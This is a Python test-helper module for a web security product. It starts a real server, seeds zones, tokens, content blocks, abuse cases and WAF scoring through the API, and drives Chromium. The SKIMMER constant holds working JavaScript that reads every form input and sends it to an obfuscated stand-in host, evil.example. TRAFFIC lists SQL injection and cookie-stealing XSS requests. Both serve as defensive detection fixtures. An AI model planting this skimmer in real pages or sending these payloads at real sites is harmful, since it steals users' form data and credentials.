"""Helpers for the console's tests: the built bundle, a real ``bastion serve`` with a
temporary SQLite database, seeding through the real APIs, and Chromium via Playwright.

Chromium is Debian's package (``scripts/bootstrap.sh`` installs it); a missing browser or
bundle fails the tests, it never skips them.
"""

from __future__ import annotations

import io
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx
import numpy as np
import orjson
import pytest
from PIL import Image

from bastion.auth.tokens import TokenStore
from bastion.content import Bank, CsvDirectoryStore, Entry, hash_content
from bastion.store.db import Database
from bastion.waf import model as waf_model

REPO = Path(__file__).resolve().parents[2]
CONSOLE_DIR = REPO / "console"
BUNDLE = CONSOLE_DIR / "dist"
ARTIFACTS = REPO / "test-artifacts" / "console"
#: Debian's chromium binary (``/usr/bin/chromium`` is a shell wrapper around it).
CHROMIUM_CANDIDATES = ("/usr/lib/chromium/chromium", "/usr/bin/chromium")


def chromium_path() -> str:
    """The Chromium executable, or a test failure saying how to install it."""
    override = os.environ.get("BASTION_CHROMIUM")
    for candidate in ([override] if override else []) + list(CHROMIUM_CANDIDATES):
        if candidate and Path(candidate).is_file() and os.access(candidate, os.X_OK):
            return candidate
    pytest.fail(
        "Chromium is required for the console tests: run scripts/bootstrap.sh "
        "(apt-get install chromium) or set BASTION_CHROMIUM",
        pytrace=False,
    )


def ensure_bundle() -> Path:
    """The built console, built now (``scripts/build_console.sh``) when out of date."""
    done = subprocess.run(
        [str(REPO / "scripts" / "build_console.sh")],
        capture_output=True,
        text=True,
        env={**os.environ, "BASTION_SKIP_CONSOLE": "0"},
        check=False,
    )
    if done.returncode != 0 or not (BUNDLE / "index.html").is_file():
        pytest.fail(f"the console does not build:\n{done.stderr[-4000:]}", pytrace=False)
    return BUNDLE


def free_port() -> int:
    """A TCP port free on loopback right now."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def photo(seed: int, size: tuple[int, int] = (320, 240)) -> bytes:
    """A JPEG with smooth structure (good PDQ quality), different per seed."""
    rng = np.random.default_rng(seed)
    w, h = size
    y, x = np.mgrid[0:h, 0:w].astype(np.float32)
    channels = []
    for _ in range(3):
        fx, fy = rng.uniform(0.005, 0.05, 2).tolist()
        phase = rng.uniform(0, 6.28)
        channels.append(127 + 120 * np.sin(x * fx + y * fy + phase))
    rgb = np.clip(np.stack(channels, axis=-1), 0, 255).astype(np.uint8)
    out = io.BytesIO()
    Image.fromarray(rgb).save(out, "JPEG", quality=90)
    return out.getvalue()


def write_bank(banks_dir: Path, images: list[bytes]) -> None:
    """A hash bank named ``known`` holding ``images``."""
    bank = Bank("known", "pdq")
    for i, data in enumerate(images):
        value = hash_content(data).value("pdq")
        assert value is not None
        bank.add(Entry(value, indicator_id=f"ind-{i}", descriptor_id=f"desc-{i}"))
    CsvDirectoryStore(banks_dir).save(bank)


def waf_model_files() -> tuple[bytes, bytes]:
    """The shipped WAF model's bytes and a candidate (its global head's bias moved: a new
    version with different scores)."""
    shipped = waf_model.DEFAULT_MODEL_PATH.read_bytes()
    weights = waf_model.ModelWeights.from_bytes(shipped)
    weights.b2 = weights.b2.copy()
    weights.b2[3] += -2.0
    weights.meta = {**weights.meta, "note": "console e2e candidate"}
    return shipped, weights.to_bytes()


class _ScriptHandler(BaseHTTPRequestHandler):
    bodies: ClassVar[dict[str, bytes]] = {}

    def do_GET(self) -> None:
        body = self.bodies.get(self.path.split("?")[0])
        if body is None:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def script_host(bodies: dict[str, bytes]) -> Iterator[str]:
    """A local HTTP server serving ``bodies`` (path -> JavaScript); yields its base URL."""
    handler = type("Handler", (_ScriptHandler,), {"bodies": bodies})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@dataclass
class Server:
    """A running ``bastion serve``: its URL, the database and an admin token."""

    url: str
    database_url: str
    admin: str
    process: subprocess.Popen[bytes]
    log_path: Path
    tokens: dict[str, str] = field(default_factory=dict)

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")

    def client(self, token: str | None = None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=30)


@contextmanager
def running_server(
    workdir: Path, bundle: Path, extra_config: str = "", workers: int = 1
) -> Iterator[Server]:
    """``bastion serve`` in a subprocess on a free port, its own SQLite database, the
    console from ``bundle`` and an admin token (made as ``bastion token create`` does)."""
    db_url = f"sqlite:///{workdir / 'console.db'}"
    db = Database(db_url)
    db.upgrade()
    admin = TokenStore(db).create("console-admin", ["admin"]).token
    db.dispose()
    port = free_port()
    config = workdir / "bastion.toml"
    config.write_text(
        f'database_url = "{db_url}"\nport = {port}\nworkers = {workers}\n'
        f'console_dir = "{bundle}"\nlog_level = "warning"\n'
        f'banks_dir = "{workdir / "banks"}"\nbanks_refresh_s = 1\n'
        "abuse_zone_refresh_s = 0.5\ncontent_deliver = false\n" + extra_config
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASTION_")}
    log_path = workdir / "server.log"
    with log_path.open("wb") as log_file:
        process = subprocess.Popen(
            [sys.executable, "-m", "bastion", "serve", "--config", str(config)],
            env=env,
            stdout=log_file,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    server = Server(f"http://127.0.0.1:{port}", db_url, admin, process, log_path)
    try:
        deadline = time.monotonic() + 90
        while True:
            if process.poll() is not None:
                raise RuntimeError(f"bastion serve exited {process.returncode}:\n{server.log()}")
            try:
                if httpx.get(f"{server.url}/readyz", timeout=1).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() > deadline:
                raise RuntimeError(f"bastion serve did not become ready:\n{server.log()}")
            time.sleep(0.2)
        yield server
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGTERM)
            try:
                process.wait(30)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait()


def wait_for(check: Callable[[], Any], what: str, timeout_s: float = 30.0) -> Any:
    """Poll ``check`` until it returns something truthy; fail naming ``what``."""
    deadline = time.monotonic() + timeout_s
    while True:
        value = check()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"timed out waiting for {what}")
        time.sleep(0.2)


def clean_artifacts() -> Path:
    """The screenshot directory, emptied."""
    shutil.rmtree(ARTIFACTS, ignore_errors=True)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    return ARTIFACTS


SKIMMER = b"""
(function(){var f=document.querySelectorAll('input');var d='';
for(var i=0;i<f.length;i++){d+=f[i].name+'='+f[i].value+'&';}
var s=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==');
document.addEventListener('submit',function(){new Image().src=s+'?d='+btoa(d);});
setInterval(function(){fetch(s,{method:'POST',body:d,mode:'no-cors'});},5000);})();
"""
LIBRARY = b"""
export function clamp(x, lo, hi) {
  return Math.min(hi, Math.max(lo, x));
}
"""


#: Requests scored for each zone: attacks on /login and /search, clean pages.
TRAFFIC = (
    "/login?user=admin%27%20OR%201%3D1--",
    "/login?user=x%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/products?id=12",
    "/products?id=13&sort=price",
    "/about",
)


@dataclass
class Seeded:
    """The running server and what was seeded through its API."""

    server: Server
    tokens: dict[str, str]
    blocks: dict[str, int]
    cases: dict[str, int]
    script_url: str
    active_model: str
    candidate_model: str


def _csp_report(page: str, blocked: str) -> bytes:
    return orjson.dumps(
        {
            "csp-report": {
                "document-uri": page,
                "blocked-uri": blocked,
                "effective-directive": "script-src-elem",
                "violated-directive": "script-src-elem",
                "original-policy": "script-src 'none'",
                "disposition": "report",
            }
        }
    )


def seed(server: Server, scripts_base: str) -> Seeded:
    """Zones, tokens of each role, content blocks, abuse cases and scripts, all through
    the server's API (as an administrator would)."""
    admin = server.client(server.admin)
    for zone in ("a.example", "b.example"):
        r = admin.post("/v1/admin/zones", json={"name": zone})
        assert r.status_code == 201, r.text
    tokens = {"admin": server.admin}
    for name, roles, zones in (
        ("owner-a", ["site_owner"], ["a.example"]),
        ("owner-b", ["site_owner"], ["b.example"]),
        ("reviewer", ["trust_safety"], []),
        ("analyst", ["analyst"], []),
    ):
        r = admin.post("/v1/admin/tokens", json={"name": name, "roles": roles, "zones": zones})
        assert r.status_code == 201, r.text
        tokens[name] = r.json()["token"]

    # Content: one matching image served on each zone -> one block per zone.
    blocks: dict[str, int] = {}
    for seed, zone in ((1, "a.example"), (2, "b.example")):

        def scan(seed: int = seed, zone: str = zone) -> Any:
            r = admin.post(
                "/v1/content/scan",
                params={"url": f"https://{zone}/img/{seed}.jpg", "zone": zone},
                content=photo(seed),
                headers={"Content-Type": "application/octet-stream"},
            )
            assert r.status_code == 200, r.text
            return r.json().get("block")

        block = wait_for(scan, f"a content block on {zone} (bank loaded)")
        blocks[zone] = int(block["id"])

    # Abuse: one phishing report per zone, consumed into cases by the server's worker.
    for zone in ("a.example", "b.example"):
        r = admin.post(
            "/v1/abuse/reports",
            json={
                "type": "phishing",
                "urls": [f"https://{zone}/login-{zone.split('.')[0]}"],
                "description": f"fake bank login on {zone}",
                "reporter": {"name": "Rita Reporter", "email": "rita@reporter.example"},
            },
        )
        assert r.status_code == 202, r.text
    cases: dict[str, int] = {}

    def both_cases() -> bool:
        found = admin.get("/v1/abuse/cases").json()["cases"]
        for case in found:  # (content blocks open cases of their own: not these)
            if case["zone"] in ("a.example", "b.example") and case["type"] == "phishing":
                cases[case["zone"]] = case["id"]
        return len(cases) == 2

    wait_for(both_cases, "abuse cases for both zones")

    # Scripts: CSP reports name a skimmer and a library served locally; the server's fetch
    # loop downloads and classifies them (versions with verdicts).
    skimmer = f"{scripts_base}/skim.js"
    for zone in ("a.example", "b.example"):
        for blocked in (skimmer, f"{scripts_base}/lib.js"):
            r = httpx_post_report(server, zone, _csp_report(f"https://{zone}/checkout", blocked))
            assert r.status_code == 202, r.text

    def fetched() -> bool:
        items = admin.get("/v1/csp/zones/a.example/resources").json()["resources"]
        return any(i.get("current_version") for i in items if i["url"].endswith("skim.js"))

    wait_for(fetched, "the skimmer fetched and classified", 60)

    # Analytics: scored requests for both zones, logged by the server's request log.
    scored = []
    for zone in ("a.example", "b.example"):
        for uri in TRAFFIC:
            scored.append({"method": "GET", "uri": uri, "headers": [["Host", zone]]})
    r = admin.post("/v1/waf/score", json={"requests": scored})
    assert r.status_code == 200, r.text

    def logged() -> bool:
        answer = admin.get("/v1/analytics/zones/a.example/summary")
        assert answer.status_code == 200, answer.text
        return bool(answer.json()["total"] >= len(TRAFFIC))

    wait_for(logged, "scored requests in the analytics store")

    # Models: the shipped WAF model registered and active, a candidate beside it.
    shipped, candidate = waf_model_files()
    versions = []
    for data, source in ((shipped, "waf-model.npz"), (candidate, "candidate.npz")):
        r = admin.post("/v1/models", content=data, params={"source": source})
        assert r.status_code == 201, r.text
        versions.append(r.json()["version"])
    r = admin.post(f"/v1/models/{versions[0]}/promote", json={"reason": "baseline"})
    assert r.status_code == 200, r.text
    return Seeded(server, tokens, blocks, cases, skimmer, versions[0], versions[1])


def httpx_post_report(server: Server, zone: str, body: bytes) -> Any:
    with server.client() as anonymous:
        return anonymous.post(
            f"/v1/csp/reports/{zone}",
            content=body,
            headers={"Content-Type": "application/csp-report"},
        )
